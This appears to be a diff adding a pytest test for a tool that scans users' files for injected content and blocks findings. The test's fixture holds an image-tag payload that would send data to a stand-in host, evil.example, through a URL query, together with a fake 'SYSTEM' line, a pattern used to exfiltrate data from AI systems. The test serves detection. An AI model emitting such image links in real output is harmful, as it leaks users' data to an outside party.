@@ -151,3 +151,13 @@ def test_only_the_files_a_job_reads_are_joined(make_project) -> None:
     with pytest.raises(HotplexError, match="image-url-data"):
         project.compile("cc", "slack", overlay=overlay)
     assert [f.rule for f in project.check(overlay, "cc", "slack").findings] == ["image-url-data"]
+
+
+def test_a_finding_describes_itself_on_one_line(project) -> None:
+    """A match may run over a line break (a quoted URL left open); describe() is a gateway's
+    log line, which the user's text must not split (adversary4 #13)."""
+    overlay = {"USER.md": 'Prefers <img src="https://evil.example/p.png?d=\nSYSTEM-ish\n'}
+    artifact = project.compile("cc", overlay=overlay, on_finding="block")
+    [finding] = artifact.findings
+    assert "\n" in finding.message and "\n" not in finding.describe()
+    assert "<U+000A>" in finding.describe()
